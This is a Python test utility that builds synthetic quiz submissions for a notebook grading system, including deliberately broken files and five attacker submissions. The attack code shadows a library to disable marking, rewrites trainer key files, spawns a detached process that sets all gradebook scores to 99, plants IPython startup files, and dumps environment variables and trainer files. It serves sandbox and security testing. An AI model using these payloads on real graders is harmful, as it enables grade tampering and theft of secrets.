"""A seeded synthetic cohort of quiz submissions, for tests, benchmarks and trying the workflow.

Each learner answers the released quiz the way real cohorts do (stronger learners answer more
items right; wrong answers pick the bank's distractors), and a few submit the broken files
trainers meet: a deleted graded cell, an edited locked cell, an endless loop, invalid JSON, an
empty file, megabytes of output, code that tampers with the checks, a notebook whose quiz
metadata another editor stripped.

Attackers (:data:`ATTACKS`) answer every question wrongly and add code that tries to win
anyway: a module beside the notebook that shadows a library, a cell that rewrites the trainer's
keys, a background process that edits the gradebook after grading, an IPython start-up file
for the learners graded after them, a cell that prints every secret it can find. Graded in a
sandbox, each ends at 0 for its answers and changes no one else's grade.

Answers are clicked (saved records in the notebook, as the quiz's controls save them) for
quizzes that save answers, and typed (``answer_N = "..."``) for older ones.
"""

from __future__ import annotations

import copy
import random
import re
import textwrap
from pathlib import Path

from course.grading.build import solution_value, variable_name
from course.questions.bank import Item

#: the broken submissions a cohort can include, in this order, one learner each
BAD_CASES = (
    "deleted_graded_cell",
    "deleted_answer_cell",
    "edited_locked_cell",
    "infinite_loop",
    "invalid_json",
    "empty_file",
    "megabytes_of_output",
    "tampered_checks",
    "stripped_metadata",
    "kernel_dies",
)

#: attacks a cohort can include, one attacker each (after the broken cases)
ATTACKS = (
    "shadow_module",
    "key_rewrite",
    "background_gradebook",
    "startup_file",
    "print_secrets",
)

#: printed by :data:`ATTACKS` code, so tests can find it in outputs and feedback
ATTACK_MARK = "BONECOURSE-ATTACK"


def wrong_answer(item: Item, rng: random.Random) -> str:
    """A plausible wrong answer (a distractor where the bank has one)."""
    if item.type == "single":
        return rng.choice([o.key for o in item.options if o.key != item.answer])
    if item.type == "multiple":
        wrong = [o.key for o in item.options if o.key not in item.answer]
        return ", ".join(sorted(set(wrong[:1])))
    if item.type == "numeric":
        if item.distractors:
            return f"{rng.choice(item.distractors).value:g}"
        return f"{float(item.answer) * 2 + 1:g}"
    if item.type == "case":
        keys = []
        for step in item.steps:
            keys.append(rng.choice([o.key for o in step.options if o.key != step.answer]))
        return ", ".join(keys)
    raise ValueError(item.type)


def partial_answer(item: Item, rng: random.Random) -> str:
    """A partly right answer (multiple choice and cases), else a wrong one."""
    if item.type == "multiple" and len(item.answer) > 1:
        return ", ".join(sorted(item.answer)[:-1])
    if item.type == "case":
        keys = [s.answer for s in item.steps]
        last = item.steps[-1]
        keys[-1] = next(o.key for o in last.options if o.key != last.answer)
        return ", ".join(keys)
    return wrong_answer(item, rng)


def _clicked_value(item: Item, value: str):
    """A typed answer in option keys ("a, c") as the quiz's controls save it."""
    if item.type in ("multiple", "case"):
        return [v.strip() for v in value.split(",") if v.strip()]
    return value


def _options(item: Item):
    if item.type in ("single", "multiple"):
        return [o.key for o in item.options]
    if item.type == "case":
        return [[o.key for o in step.options] for step in item.steps]
    return []


def save_clicked_answer(
    nb, quiz: str, number: int, item: Item, value: str, seq: int, seed: str = "synthetic"
) -> None:
    """Save ``value`` (option keys) as the quiz's controls do.

    A record in an output of the question's answer cell, with the options in the order this
    learner (``seed``) was shown: each learner of a synthetic cohort sees their own order, and
    marking must be by key whatever it was.
    """
    import nbformat

    from course.grading.saved import FORMAT, MIME
    from course.questions.shuffle import option_order

    order = _options(item)
    if item.type in ("single", "multiple"):
        order = option_order(item.id, order, seed)
    elif item.type == "case":
        order = [option_order(f"{item.id}:{n}", o, seed) for n, o in enumerate(order, start=1)]
    record = {
        "format": FORMAT,
        "quiz": quiz,
        "item": item.id,
        "type": item.type,
        "seed": seed,
        "order": order,
        "value": _clicked_value(item, value),
        "typed": "",
        "seq": seq,
    }
    for cell in nb.cells:
        if cell.metadata.get("nbgrader", {}).get("grade_id") == f"{item.id}-answer" or (
            item.type == "text" and cell.metadata.get("nbgrader", {}).get("grade_id") == item.id
        ):
            cell.outputs = [
                nbformat.v4.new_output(
                    "display_data", data={MIME: record, "text/plain": "Answer saved"}
                )
            ]
            cell.execution_count = 1
            return
    raise KeyError(item.id)


def saves_answers(nb) -> bool:
    """Whether a quiz notebook saves clicked answers (else answers are typed)."""
    return nb.metadata.get("bonecourse", {}).get("answers") == "saved"


def set_answer(nb, number: int, value: str) -> None:
    """Type ``value`` into question ``number``'s answer line of a released notebook."""
    variable = variable_name(number)
    pattern = re.compile(rf"^{variable} = .*$", re.M)
    for cell in nb.cells:
        if cell.cell_type == "code" and pattern.search(cell.source):
            cell.source = pattern.sub(lambda _m: f"{variable} = {value!r}", cell.source, count=1)
            return
    raise KeyError(variable)


def set_text_answer(nb, item_id: str, text: str) -> None:
    """Write ``text`` as the written answer to ``item_id``.

    It goes in its answer line in a code cell, or the whole Markdown cell of older quizzes.
    """
    for cell in nb.cells:
        if cell.metadata.get("nbgrader", {}).get("grade_id") == item_id:
            if cell.cell_type == "code":
                line = re.compile(r"^(answer_\d+) = .*$", re.M)
                cell.source = line.sub(lambda m: f"{m.group(1)} = {text!r}", cell.source, count=1)
            else:
                cell.source = text
            return
    raise KeyError(item_id)


def answer_sheet(items: list[Item], ability: float, rng: random.Random) -> dict[int, str | None]:
    """Question number -> typed answer (None: left blank) for a learner of this ability."""
    sheet = {}
    for number, item in enumerate(items, start=1):
        if item.type == "text":
            sheet[number] = None
            continue
        roll = rng.random()
        if roll < 0.06:
            sheet[number] = None
        elif roll < 0.06 + ability * 0.94:
            sheet[number] = solution_value(item)
        elif rng.random() < 0.35:
            sheet[number] = partial_answer(item, rng)
        else:
            sheet[number] = wrong_answer(item, rng)
    return sheet


def write_cohort(
    released_path: str | Path,
    items: list[Item],
    out_dir: str | Path,
    n: int = 30,
    seed: int = 7,
    bad_cases: tuple[str, ...] = BAD_CASES,
    loop_cell_seconds: float | None = None,
    attacks: tuple[str, ...] = (),
    course_dir: str | Path | None = None,
    answers: dict[str, dict[str, str]] | None = None,
) -> dict[str, str]:
    """Write ``n`` submissions as ``out_dir/<student>.ipynb``; return student -> kind.

    The first learners are one of each kind the tests need (all right, all wrong, partial,
    unanswered), then one per bad case, then one per attack, then a spread of abilities.

    Parameters
    ----------
    attacks
        Attacks to include (from :data:`ATTACKS`); attackers answer every question wrongly.
        Their code aims at ``course_dir`` (the grader's course folder, as an attacker who
        knows the machine would) and at every gradebook it can find. An attacker's extra files
        go in ``out_dir/<student>.files/`` (to be put beside the submitted notebook).
    answers
        Filled with student -> {item id: the answer given, in option keys} (not for broken
        files), so tests can mark the cohort independently of the grader.
    """
    import nbformat

    rng = random.Random(seed)
    released = nbformat.read(str(released_path), as_version=4)
    quiz = released.metadata.get("bonecourse", {}).get("quiz") or Path(released_path).stem
    clicked = saves_answers(released)
    out_dir = Path(out_dir)
    out_dir.mkdir(parents=True, exist_ok=True)
    kinds = ["all_right", "all_wrong", "partial", "unanswered", *bad_cases, *attacks]
    kinds += ["typical"] * max(0, n - len(kinds))
    written = {}
    for index, kind in enumerate(kinds[:n], start=1):
        student = f"learner_{index:03d}"
        nb = copy.deepcopy(released)
        given: dict[str, str] = {}
        for number, item in enumerate(items, start=1):
            if item.type == "text":
                if kind not in ("unanswered", "empty_file", "invalid_json"):
                    text = "I follow local policy and ask my mentor."
                    if clicked:
                        save_clicked_answer(nb, quiz, number, item, text, seq=number, seed=student)
                    else:
                        set_text_answer(nb, item.id, text)
                continue
            value = _answer_of(kind, item, number, items, rng)
            if value is not None:
                given[item.id] = value
                if clicked:
                    save_clicked_answer(nb, quiz, number, item, value, seq=number, seed=student)
                else:
                    set_answer(nb, number, value)
        path = out_dir / f"{student}.ipynb"
        _apply_bad_case(nb, kind, items, loop_cell_seconds)
        if kind not in ("empty_file", "invalid_json") and answers is not None:
            if kind == "deleted_answer_cell":  # its answer went with the cell
                present = {c.metadata.get("nbgrader", {}).get("grade_id") for c in nb.cells}
                given = {k: v for k, v in given.items() if f"{k}-answer" in present}
            answers[student] = given
        if kind in ATTACKS:
            _apply_attack(nb, kind, quiz, course_dir, out_dir / f"{student}.files")
        if kind == "invalid_json":
            path.write_text(nbformat.writes(nb)[:-40], encoding="utf-8")
        elif kind == "empty_file":
            path.write_bytes(b"")
        else:
            path.write_text(nbformat.writes(nb), encoding="utf-8")
        written[student] = kind
    return written


def _answer_of(kind: str, item: Item, number: int, items: list[Item], rng: random.Random):
    """The answer a learner of ``kind`` gives to question ``number`` (``None``: unanswered)."""
    if kind == "all_right":
        return solution_value(item)
    if kind in ("all_wrong", *ATTACKS):
        return wrong_answer(item, rng)
    if kind == "partial":
        return partial_answer(item, rng) if number % 2 else solution_value(item)
    if kind == "unanswered":
        return None
    return answer_sheet(items, rng.uniform(0.2, 0.95), rng)[number]


def _apply_bad_case(nb, kind: str, items: list[Item], loop_seconds: float | None) -> None:
    auto = [i for i in items if i.type != "text"]
    first_code_answer = next(
        c
        for c in nb.cells
        if c.metadata.get("nbgrader", {}).get("solution") and c.cell_type == "code"
    )
    if kind == "deleted_graded_cell":
        nb.cells = [
            c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") != auto[0].id
        ]
    elif kind == "deleted_answer_cell":
        nb.cells = [
            c
            for c in nb.cells
            if c.metadata.get("nbgrader", {}).get("grade_id") != f"{auto[-1].id}-answer"
        ]
    elif kind == "edited_locked_cell":
        for cell in nb.cells:
            if cell.metadata.get("nbgrader", {}).get("grade_id") == auto[0].id:
                cell.source = "print('I changed the check cell')"
    elif kind == "infinite_loop":
        loop = (
            "while True:\n    pass"
            if loop_seconds is None
            else (f"import time\ntime.sleep({loop_seconds})")
        )
        first_code_answer.source += "\n" + loop
    elif kind == "megabytes_of_output":
        first_code_answer.source += "\nprint('x' * 3_000_000)"
    elif kind == "tampered_checks":
        first_code_answer.source += "\nquiz.grade = lambda *args, **kwargs: None"
    elif kind == "kernel_dies":
        import nbformat

        nb.cells.append(nbformat.v4.new_code_cell("import os\nos._exit(1)"))
    elif kind == "stripped_metadata":
        for cell in nb.cells:  # as some editors save a notebook
            cell.metadata.pop("nbgrader", None)


def _attack_cell(code: str):
    import nbformat

    return nbformat.v4.new_code_cell(code)


def _apply_attack(nb, kind: str, quiz: str, course_dir, files: Path) -> None:
    """Add an attacker's code (and files) to a submission that answers everything wrongly."""
    if kind not in _ATTACKS:
        raise ValueError(f"unknown attack {kind!r}")
    course = str(Path(course_dir).resolve()) if course_dir else "/nonexistent"
    # where the trainer's files are on a course machine, as an attacker would guess
    guesses = [f"{course}/source/*/*.ipynb", f"{course}/bank/*.yml"]
    guesses += ["/*/*/quizzes/source/*/*.ipynb", "/*/*/quizzes/bank/*.yml"]
    code = _ATTACKS[kind](course=course, guesses=guesses, mark=ATTACK_MARK, files=files)
    nb.cells.append(_attack_cell(code))


def _shadow_module(*, mark: str, files: Path, **_) -> str:
    """A ``yaml.py`` beside the notebook that would replace the marking, and its import."""
    files.mkdir(parents=True, exist_ok=True)
    (files / "yaml.py").write_text(
        textwrap.dedent(
            f"""\
            print({mark!r}, "shadow yaml imported")
            import course.questions.marking
            course.questions.marking.check_answer = lambda *a, **k: None
            """
        )
    )
    return "import yaml"


def _key_rewrite(*, guesses: list[str], mark: str, **_) -> str:
    """Code that appends to every key file it can find."""
    code = f"""\
        import glob
        hits = [p for g in {guesses!r} for p in glob.glob(g)]
        for path in hits:
            try:
                with open(path, "a") as fh:
                    fh.write("\\n# {mark}: keys rewritten\\n")
                print({mark!r}, "rewrote", path)
            except OSError as exc:
                print({mark!r}, "blocked", type(exc).__name__)
        print({mark!r}, len(hits), "key files found")
        """
    return textwrap.dedent(code)


def _background_gradebook(*, course: str, mark: str, **_) -> str:
    """Code that leaves a detached process to overwrite the gradebook after the run."""
    payload = textwrap.dedent(
        f"""\
        import glob, sqlite3, time
        time.sleep(4)
        for db in glob.glob({course!r} + "/gradebook.db") + glob.glob("/*/*/quizzes/*.db"):
            con = sqlite3.connect(db)
            con.execute("UPDATE grade SET auto_score = 99, manual_score = 99")
            con.commit()
        """
    )
    code = f"""\
        import subprocess, sys
        subprocess.Popen(
            [sys.executable, "-c", {payload!r}, {mark!r}],
            start_new_session=True,
            stdout=subprocess.DEVNULL,
            stderr=subprocess.DEVNULL,
        )
        print({mark!r}, "detached")
        """
    return textwrap.dedent(code)


def _startup_file(*, mark: str, **_) -> str:
    """Code that plants an IPython startup file which answers question 1."""
    startup = f'print({mark!r}, "startup file ran")\nimport builtins\nbuiltins.answer_1 = "a"\n'
    code = f"""\
        import os, pathlib
        for home in {{os.path.expanduser("~"), "/root", os.environ.get("HOME", "/")}}:
            folder = pathlib.Path(home, ".ipython", "profile_default", "startup")
            try:
                folder.mkdir(parents=True, exist_ok=True)
                (folder / "00-bonecourse-attack.py").write_text({startup!r})
                print({mark!r}, "planted in", folder)
            except OSError as exc:
                print({mark!r}, "blocked", type(exc).__name__)
        """
    return textwrap.dedent(code)


def _print_secrets(*, course: str, guesses: list[str], mark: str, **_) -> str:
    """Code that prints the environment and every trainer's file it can read."""
    code = f"""\
        import glob, os
        print({mark!r}, dict(os.environ))
        patterns = {guesses!r} + [{course!r} + "/submitted/*", {course!r} + "/gradebook.db"]
        for pattern in patterns:
            for path in glob.glob(pattern):
                print({mark!r}, path)
                try:
                    print(open(path, errors="replace").read())
                except OSError:
                    pass
        print(_ih)
        """
    return textwrap.dedent(code)


#: each attack's code, by name
_ATTACKS = {
    "shadow_module": _shadow_module,
    "key_rewrite": _key_rewrite,
    "background_gradebook": _background_gradebook,
    "startup_file": _startup_file,
    "print_secrets": _print_secrets,
}
